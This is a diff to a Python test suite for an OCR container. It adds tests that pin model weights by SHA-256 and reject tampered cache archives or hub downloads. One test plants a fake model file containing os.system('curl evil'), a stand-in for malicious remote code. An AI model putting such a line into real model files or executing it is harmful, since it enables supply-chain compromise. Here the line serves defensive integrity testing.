@@ -19,7 +19,9 @@ from idp.contract.errors import EngineFailure, ModelUnavailable
 from idp.contract.results import Block, EngineInfo, Line
 from idp.document.decode import PageImage
 from idp.document.ocr.engine import OcrEngine, PageContent
+from idp.document.ocr.models.archives import pack_model_dir, sha256_file
 from idp.document.ocr.models.cache import ModelCache
+from idp.document.ocr.models.manifest import ModelManifest, ModelPin
 from sagemaker_container.engines import (
     EngineBusy,
     EnginePool,
@@ -90,20 +92,50 @@ def test_weights_come_from_the_s3_model_cache_when_not_baked(
 ) -> None:
     # GIVEN both VL models imported into the S3 model cache and nothing baked in the image
     monkeypatch.setenv("TMPDIR", str(tmp_path))
-    staging = tmp_path / "staging"
-    uploader = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "unused")
-    for name, vlm in (("PP-DocLayoutV3", False), ("PaddleOCR-VL-1.6-0.9B", True)):
-        uploader.import_dir(name, fake_model_dir(staging, name, vlm=vlm))
+    manifest = _import_vl_models(s3, tmp_path)
     settings = settings_for(
         tmp_path, VL_MODELS_DIR=str(tmp_path / "nothing"), MODEL_CACHE_BUCKET=CACHE_BUCKET
     )
-    cache = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "cache", search_roots=[])
+    cache = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "cache", manifest=manifest)
     # WHEN the container resolves its weights at start-up
     weights = resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
     # THEN both are unpacked locally from the cache
     assert (weights.layout_dir / "inference.pdiparams").is_file()
     assert (weights.vlm_dir / "config.json").is_file()
     assert weights.vlm_dir.name == "PaddleOCR-VL-1.6-0.9B"
+
+
+def _import_vl_models(s3: Any, tmp_path: Path) -> ModelManifest:
+    """Both VL models imported into the S3 model cache, and a manifest pinning them."""
+    uploader = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "unused")
+    return ModelManifest(
+        ModelPin(
+            name,
+            "test",
+            uploader.import_dir(name, fake_model_dir(tmp_path / "staging", name, vlm=vlm)),
+        )
+        for name, vlm in (("PP-DocLayoutV3", False), ("PaddleOCR-VL-1.6-0.9B", True))
+    )
+
+
+def test_a_replaced_vl_archive_stops_start_up_naming_the_model(
+    tmp_path: Path, s3: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # GIVEN the pinned VL model's archive replaced in the cache (by code that would run in the
+    # vLLM server with --trust-remote-code)
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    manifest = _import_vl_models(s3, tmp_path)
+    planted = fake_model_dir(tmp_path / "planted", "PaddleOCR-VL-1.6-0.9B", vlm=True)
+    (planted / "modeling_paddleocr_vl.py").write_text("import os; os.system('curl evil')\n")
+    ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "x").import_dir(
+        "PaddleOCR-VL-1.6-0.9B", planted
+    )
+    settings = settings_for(tmp_path, VL_MODELS_DIR=str(tmp_path / "nothing"))
+    cache = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "cache", manifest=manifest)
+    # WHEN the container resolves its weights THEN it refuses them, naming the model
+    with pytest.raises(ModelUnavailable, match=r"PaddleOCR-VL-1\.6-0\.9B.*does not match its pin"):
+        resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
+    assert not (tmp_path / "cache" / "PaddleOCR-VL-1.6-0.9B").exists()
 
 
 def test_missing_weights_name_every_missing_model(tmp_path: Path) -> None:
@@ -291,13 +323,49 @@ def test_bake_weights_fills_the_image_folder_and_keeps_what_is_there(tmp_path: P
     fake_model_dir(dest, "PP-DocLayoutV3", vlm=False)
     downloaded: list[str] = []
 
+    hub_vlm = fake_model_dir(tmp_path / "hub", "PaddleOCR-VL-1.6-0.9B", vlm=True)
+    archive = tmp_path / "vlm.tar.gz"
+    pack_model_dir(hub_vlm, "PaddleOCR-VL-1.6-0.9B", archive)
+    pinned = ModelManifest(
+        [ModelPin("PaddleOCR-VL-1.6-0.9B", "hub", None, hub_sha256=sha256_file(archive))]
+    )
+
     def hub_download(name: str) -> Path:
         downloaded.append(name)
-        return fake_model_dir(tmp_path / "hub", name, vlm=True)
+        return hub_vlm
 
     # WHEN the build bakes the v1.6 pipeline's weights
-    paths = bake(dest, pipeline_version="v1.6", hub_download=hub_download)
+    paths = bake(dest, pipeline_version="v1.6", hub_download=hub_download, manifest=pinned)
     # THEN only the missing VLM was downloaded, and both dirs are complete in the folder
     assert downloaded == ["PaddleOCR-VL-1.6-0.9B"]
     assert paths == [dest / "PP-DocLayoutV3", dest / "PaddleOCR-VL-1.6-0.9B"]
     assert (dest / "PaddleOCR-VL-1.6-0.9B" / "config.json").is_file()
+
+
+def test_baking_takes_a_download_only_if_it_matches_its_hub_pin(tmp_path: Path) -> None:
+    from sagemaker_container.bake_weights import bake
+
+    # GIVEN the hub's downloads, and a manifest pinning the layout model's download only
+    hub = {
+        name: fake_model_dir(tmp_path / "hub", name, vlm=vlm)
+        for name, vlm in (("PP-DocLayoutV3", False), ("PaddleOCR-VL-1.6-0.9B", True))
+    }
+    archive = tmp_path / "layout.tar.gz"
+    pack_model_dir(hub["PP-DocLayoutV3"], "PP-DocLayoutV3", archive)
+    manifest = ModelManifest(
+        [
+            ModelPin("PP-DocLayoutV3", "hub", None, hub_sha256=sha256_file(archive)),
+            ModelPin("PaddleOCR-VL-1.6-0.9B", "hub", None, hub_sha256="0" * 64),
+        ]
+    )
+    # WHEN the image's weights are baked THEN the build stops at the VLM, which differs
+    with pytest.raises(SystemExit, match=r"PaddleOCR-VL-1\.6-0\.9B.*does not match its pin"):
+        bake(
+            tmp_path / "baked",
+            pipeline_version="v1.6",
+            hub_download=hub.__getitem__,
+            manifest=manifest,
+        )
+    # ... after baking the layout model, which matched
+    assert (tmp_path / "baked" / "PP-DocLayoutV3" / "inference.pdiparams").is_file()
+    assert not (tmp_path / "baked" / "PaddleOCR-VL-1.6-0.9B").exists()
